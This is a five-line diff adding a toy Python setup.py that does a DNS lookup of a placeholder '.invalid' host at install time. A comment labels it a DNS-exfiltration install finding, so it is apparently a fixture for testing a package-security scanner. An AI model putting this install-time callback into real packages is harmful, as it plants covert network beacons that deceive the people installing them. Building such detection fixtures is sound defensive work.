@@ -1,0 +1,5 @@
+import socket
+from setuptools import setup
+
+socket.gethostbyname("installed.toy.example.invalid")  # expect: source/dns-exfiltration install medium
+setup(name="toy")
